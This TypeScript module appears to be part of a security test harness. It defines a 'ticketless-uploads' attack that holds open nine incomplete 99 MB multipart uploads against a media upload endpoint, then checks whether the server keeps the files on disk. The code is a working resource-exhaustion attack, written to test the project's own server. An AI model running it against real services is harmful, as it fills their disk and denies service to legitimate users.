import { connect, type Socket } from 'node:net'
import { setTimeout as wait } from 'node:timers/promises'
import { MEDIA_BASE, CLOUD_NAME } from '@seam/contract/media.ts'
import type { Attack } from '../attack.ts'
import { MB } from '../figure.ts'
import { FORM_TYPE, encodeForm } from '../member.ts'
import { ATTACKER } from '../networks.ts'

const UPLOADS = 9
/** Slightly less than the largest video. */
const UPLOAD_BYTES = 99 * MB
const SENDING_TIME_MS = 12_000
const HOLDING_TIME_MS = 4_000
/** An upload without a ticket may use memory, never the disk. */
const GOAL_MB = 10

/** Sends an incomplete upload form whose file comes before the ticket. */
function holdUpload(origin: string): { socket: Socket; sent: Promise<unknown> } {
  const { hostname, port } = new URL(origin)
  const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER })
  socket.on('error', () => {}).resume()
  const form = encodeForm({}, { name: 'walk.mp4', bytes: Buffer.alloc(UPLOAD_BYTES) })
  socket.write(
    `POST ${MEDIA_BASE}/v1_1/${CLOUD_NAME}/auto/upload HTTP/1.1\r\nHost: seam.test\r\n` +
      `Content-Type: ${FORM_TYPE}\r\nContent-Length: ${form.length}\r\n\r\n`,
  )
  // Without the last bytes the form is incomplete, and the server stores the file until the
  // connection closes.
  const sent = new Promise((resolve) => {
    socket.write(form.subarray(0, -100), resolve)
    socket.once('close', resolve)
  })
  return { socket, sent }
}

export const ticketlessUploads: Attack = {
  name: 'ticketless-uploads',
  summary: `${UPLOADS} uploads of 99 MB that send the file first, no ticket and no end`,
  attacker: 'anonymous network',
  memoryGoal: 100,
  clips: true,
  async run({ target }) {
    const before = await target.diskBytes()
    const uploads = Array.from({ length: UPLOADS }, () => holdUpload(target.origin))
    await Promise.race([Promise.all(uploads.map(({ sent }) => sent)), wait(SENDING_TIME_MS)])
    await wait(HOLDING_TIME_MS)
    const held = (await target.diskBytes()) - before
    const open = uploads.filter(({ socket }) => !socket.closed).length
    for (const { socket } of uploads) socket.destroy()
    return {
      period: 3600,
      heldBytes: held,
      figures: [
        { name: 'disk that they hold', value: held / MB, unit: 'MB', goal: GOAL_MB },
        { name: 'of them still open after being sent', value: open, unit: '', goal: null },
      ],
    }
  },
}
